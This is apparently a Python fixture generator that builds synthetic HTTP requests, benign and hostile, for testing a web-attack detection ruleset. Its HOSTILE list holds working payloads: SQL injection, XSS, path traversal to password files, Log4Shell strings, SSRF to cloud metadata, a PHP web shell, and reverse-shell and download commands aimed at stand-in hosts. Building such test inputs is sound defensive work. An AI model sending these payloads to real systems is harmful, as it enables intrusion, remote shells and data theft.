"""Exchanges for comparisons, invented from a seed: ordinary logins, hostile values of the kinds that the ruleset knows, and broken ones of both."""
import json
import random
import string
from urllib.parse import quote_plus

AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Mobile/15E148 Safari/604.1",
    "okhttp/4.12.0", "curl/8.5.0", "python-requests/2.31.0", "sqlmap/1.7 (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.0 Nuclei - Open-source project",
    "masscan/1.3", "dd-test-scanner-log", "dd-test-scanner-log-block", "Arachni/v1.5", "Acunetix", "WPScan v3.8", "gobuster/3.1", "${jndi:ldap://x/a}",
]
HOSTILE = [
    "' OR 1=1 -- ", "1' UNION SELECT username, password FROM users--", "1; DROP TABLE users", "admin'/*", "sleep(5)#", "1 and benchmark(10000000,md5(1))",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=prompt(1)>", "javascript:alert(document.cookie)", "<iframe src=//evil>", "<a href=\"vbscript:x\">",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "/proc/self/environ", "....//....//etc/hosts", "C:\\boot.ini", ".htaccess", "wp-config.php",
    "; cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "&& ping -c 1 127.0.0.1", "cmd.exe /c dir", "powershell -enc AAAA", "() { :; }; echo x", "wget http://evil/x.sh",
    "${jndi:ldap://evil/a}", "${${lower:j}ndi:rmi://evil}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "${7*7}", "T(java.lang.Runtime).getRuntime().exec('id')", "#_memberAccess", "%{(#a=1)}",
    "O:8:\"stdClass\":0:{}", "rO0ABXNyABFqYXZhLnV0aWw", "<?php system($_GET[0]); ?>", "phpinfo()", "eval(base64_decode('x'))", "php://filter/convert.base64-encode/resource=index",
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "http://0x7f000001/", "file:///etc/passwd", "gopher://127.0.0.1:6379/_x", "http://metadata.google.internal/", "http://x.burpcollaborator.net",
    "{\"$gt\":\"\"}", "$where", "this.password.match(/.*/)", "db.users.find()", "*)(uid=*))(|(uid=*", "__proto__", "constructor", "prototype", "require('child_process')", "process.mainModule",
    "\r\nSet-Cookie: x=1", "%0d%0aLocation: http://evil", "\x00", "a\x00b<script>", "%u003cscript%u003e", "＜script＞alert(1)", "&lt;script&gt;", "\\u003cscript\\u003e", "<ScRiPt>", "uNiOn SeLeCt 1",
    "/*!50000UNION*/ SELECT", "1/**/UNION/**/SELECT/**/1", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>", "<!--#exec cmd=\"ls\"-->", "../" * 12, "A" * 3000, "%c0%ae%c0%ae/", "ls -la /", "nc -e /bin/sh 1.2.3.4 4444",
    "a.php.jpg", "shell.jsp", "x.phtml", ".git/config", "/actuator/env", "/wp-login.php", "/phpmyadmin/", "Bearer eyJhbGciOiJub25lIn0.e30.", "bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "c''at /e't'c/pa\"ss\"wd",
]
WORDS = ["alice", "bob@example.com", "correct horse battery", "O'Hara", "42", "true", "de-DE", "hello world", "/home", "https://login.example.com/next?x=1", "Zürich", "日本", "a+b=c", "3.14", "", "select a plan", "drop me a line", "script kiddie"]
NAMES = ["username", "password", "next", "q", "id", "lang", "token", "comment", "user[name]", "a.b", "file", "url", "data"]
PATHS = ["/login", "/", "/account/settings", "/api/v1/session", "/static/app.js", "/search", "/.git/config", "/wp-login.php", "/actuator/env", "/cgi-bin/test.cgi", "/a/../b", "/x%2e%2e/etc/passwd", "/readme.md", "/backup.sql", "/LICENSE"]


class Exchange:
    """One request with the status of its answer; as bytes for us, as addresses for them."""

    def __init__(self, seed, hostile):
        self.random, self.hostile = random.Random(seed), hostile
        pick = self.random.choice
        self.method = pick(["GET", "POST", "POST", "PUT"])
        self.path = pick(PATHS if hostile else PATHS[:6])
        self.query = [(self.name(), self.value()) for _ in range(self.random.randrange(3))]
        self.headers = [("host", "login.example.com"), ("user-agent", pick(AGENTS if hostile else AGENTS[:4])), ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
                        ("accept-language", "en-US,en;q=0.5"), ("accept-encoding", "gzip, deflate, br"), ("referer", "https://login.example.com/login"), ("sec-fetch-mode", "navigate")]
        self.headers = self.headers[:2] + [pair for pair in self.headers[2:] if self.random.random() < 0.8]
        for _ in range(self.random.randrange(3) if hostile else 0):
            text = "".join(letter for letter in self.value() if 32 <= ord(letter) < 127).strip()
            name = pick(["x-filename", "x-forwarded-proto", "referer", "x-api-version", "content-disposition", "x-middleware-subrequest", "authorization", "x-any"])
            if text and name not in dict(self.headers):
                self.headers.append((name, text))
        self.cookies = [(name, pick(["abc123", "dark", "en"])) for name in ("sid", "theme", "lang") if self.random.random() < 0.5]
        self.status = pick([200, 302, 401, 403, 404, 500])
        self.form = self.tree = None
        if self.method != "GET":
            if self.random.random() < 0.6:
                self.form = [(self.name(), self.value()) for _ in range(self.random.randrange(1, 6))]
            else:
                self.tree = {self.name(): self.branch(2) for _ in range(self.random.randrange(1, 5))}

    def name(self):
        return self.random.choice(HOSTILE) if self.hostile and self.random.random() < 0.05 else self.random.choice(NAMES)

    def value(self):
        pick = self.random.choice
        if not self.hostile or self.random.random() < 0.5:
            return pick(WORDS)
        text = pick(HOSTILE)
        change = self.random.random()
        if change < 0.2:
            text = pick(WORDS) + pick(["", " ", "=", "&"]) + text
        elif change < 0.35:
            text = text.swapcase()
        elif change < 0.45:
            place = self.random.randrange(len(text) + 1)
            text = text[:place] + pick(string.punctuation + " \t\n") + text[place:]
        elif change < 0.55:
            text = text + pick(HOSTILE)
        elif change < 0.6:
            text = quote_plus(text)
        return text

    def branch(self, depth):
        kind = self.random.random()
        if depth and kind < 0.2:
            return {self.name(): self.branch(depth - 1) for _ in range(self.random.randrange(1, 3))}
        if depth and kind < 0.35:
            return [self.branch(depth - 1) for _ in range(self.random.randrange(1, 3))]
        return self.random.choice([self.value(), self.value(), self.value(), 7, True, None]) if kind < 0.9 else self.value()

    @property
    def target(self):
        return self.path + ("?" + "&".join(f"{quote_plus(name)}={quote_plus(value)}" for name, value in self.query) if self.query else "")

    def parts(self):
        """The request and the head of the answer."""
        body, fields = b"", list(self.headers)
        if self.form is not None:
            body = "&".join(f"{quote_plus(name)}={quote_plus(value)}" for name, value in self.form).encode()
            fields.append(("content-type", "application/x-www-form-urlencoded"))
        elif self.tree is not None:
            body = json.dumps(self.tree).encode()
            fields.append(("content-type", "application/json"))
        fields.append(("content-length", str(len(body))))
        if self.cookies:
            fields.append(("cookie", "; ".join(f"{name}={value}" for name, value in self.cookies)))
        head = f"{self.method} {self.target} HTTP/1.1\r\n" + "".join(f"{name}: {value}\r\n" for name, value in fields) + "\r\n"
        return head.encode("latin-1") + body, f"HTTP/1.1 {self.status} X\r\ncontent-length: 0\r\n\r\n".encode()

    def addresses(self):
        """As Datadog's tracers give them: names of forms and queries with lists of texts, the status as a text."""
        request = self.parts()[0].split(b"\r\n\r\n", 1)[0].decode("latin-1")
        fields = {}
        for line in request.split("\r\n")[1:]:
            name, value = line.split(": ", 1)
            if name != "cookie":
                fields[name] = value
        given = {"http.client_ip": "203.0.113.7", "server.request.method": self.method, "server.request.uri.raw": self.target, "server.request.query": lists(self.query),
                 "server.request.headers.no_cookies": fields, "server.request.cookies": lists(self.cookies), "server.response.status": str(self.status)}
        if self.form is not None:
            given["server.request.body"] = lists(self.form)
        elif self.tree is not None:
            given["server.request.body"] = self.tree
        return given


def lists(pairs):
    found = {}
    for name, value in pairs:
        found.setdefault(name, []).append(value)
    return found


def frames(exchanges):
    return b"".join(len(part).to_bytes(4, "big") + part for exchange in exchanges for part in exchange.parts())
